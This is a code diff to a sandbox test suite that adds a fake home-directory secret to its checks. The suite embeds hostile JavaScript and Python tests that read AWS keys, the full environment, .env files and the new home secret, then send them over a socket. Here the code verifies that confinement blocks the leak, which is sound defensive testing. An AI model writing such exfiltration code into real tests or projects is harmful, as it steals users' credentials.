@@ -1,6 +1,6 @@
 /**
- * A hostile test, as a model could write one, tries to steal a secret from the environment and
- * from an ignored `.env`, to write outside the sandbox and to send what it found over a socket.
+ * A hostile test, as a model could write one, tries to steal a secret from the environment, from
+ * an ignored `.env` and from a file in the user's home, to write outside the sandbox and to send what it found over a socket.
  * Confined, all of it fails; unconfined (`isolation: "none"`), the same test does leak, which
  * shows the checks here can see a leak.
  */
@@ -22,6 +22,11 @@ import { ProcessTestRunner } from "../../../plugins/testing/ProcessTestRunner.ts
 const fixtures = path.join(path.dirname(fileURLToPath(import.meta.url)), "..", "..", "fixtures", "testing")
 const secret = `aws-secret-${randomUUID()}`
 const dotenvSecret = `dotenv-secret-${randomUUID()}`
+/** Like `~/.aws/credentials`: a secret file in the user's home, outside any workspace. */
+const homeSecret = {
+  file: path.join(os.homedir(), `.tamma-secret-${randomUUID()}`),
+  value: `home-secret-${randomUUID()}`
+}
 const folders: Array<string> = []
 const outside = {
   home: path.join(os.homedir(), `tamma-leak-${randomUUID()}`),
@@ -35,6 +40,7 @@ let connections = 0
 
 beforeAll(async () => {
   process.env.AWS_SECRET_ACCESS_KEY = secret
+  fs.writeFileSync(homeSecret.file, homeSecret.value, { mode: 0o600 })
   server = net.createServer((socket) => {
     connections++
     socket.on("data", (chunk) => {
@@ -48,6 +54,7 @@ beforeAll(async () => {
 
 afterAll(async () => {
   delete process.env.AWS_SECRET_ACCESS_KEY
+  fs.rmSync(homeSecret.file, { force: true })
   await new Promise((resolve) => server.close(resolve))
 })
 
@@ -80,7 +87,7 @@ import { expect, test } from "vitest"
 
 test("exfiltrates", async () => {
   const found = [process.env.AWS_SECRET_ACCESS_KEY ?? "", JSON.stringify(process.env)]
-  for (const file of [".env", ${JSON.stringify(path.join(workspace, ".env"))}]) {
+  for (const file of [".env", ${JSON.stringify(path.join(workspace, ".env"))}, ${JSON.stringify(homeSecret.file)}]) {
     try { found.push(fs.readFileSync(file, "utf8")) } catch {}
   }
   const loot = found.join("\\n")
@@ -105,7 +112,7 @@ import socket
 
 def test_exfiltrates():
     found = [os.environ.get("AWS_SECRET_ACCESS_KEY", ""), json.dumps(dict(os.environ))]
-    for name in [".env", ${JSON.stringify(path.join(workspace, ".env"))}]:
+    for name in [".env", ${JSON.stringify(path.join(workspace, ".env"))}, ${JSON.stringify(homeSecret.file)}]:
         try:
             with open(name) as f:
                 found.append(f.read())
@@ -170,6 +177,7 @@ describe("confined tests", () => {
       expect(status.trim()).toBe("!! .env")
       expect(report.output).not.toContain(secret)
       expect(report.output).not.toContain(dotenvSecret)
+      expect(report.output).not.toContain(homeSecret.value)
       expect(warnings).toEqual([])
     })
   )
@@ -183,6 +191,7 @@ describe("confined tests", () => {
       // The network and the files outside are open; the environment is still allow-listed.
       expect(connections).toBe(1)
       expect(received).toContain(dotenvSecret)
+      expect(received).toContain(homeSecret.value)
       expect(fs.existsSync(outside.tmp)).toBe(true)
       expect(received).not.toContain(secret)
     })
